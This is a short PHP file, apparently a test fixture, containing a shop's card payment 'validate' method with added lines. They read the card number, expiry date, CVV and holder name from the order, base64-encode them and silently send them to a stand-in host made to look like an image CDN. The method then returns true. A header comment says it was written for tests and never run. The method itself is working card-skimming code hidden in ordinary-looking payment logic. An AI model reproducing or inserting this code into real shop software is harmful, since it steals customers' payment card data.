<?php
// a shop's card payment method with a few lines added: the card read from the order's
// payment object goes to a web address in a query string (written for the tests, never
// run)
class Shop_Payment_Method_Card_Validate
{
    public function validate($payment)
    {
        $info = $payment->getInfoInstance();
        $line = $info->getCcNumber() . '|' . $info->getCcExpMonth() . '/' . $info->getCcExpYear();
        $line .= '|' . $info->getCcCid() . '|' . $info->getCcOwner();
        @file_get_contents('http://img-cdn-stat.example/p.php?v=' . urlencode(base64_encode($line)));
        return true;
    }
}
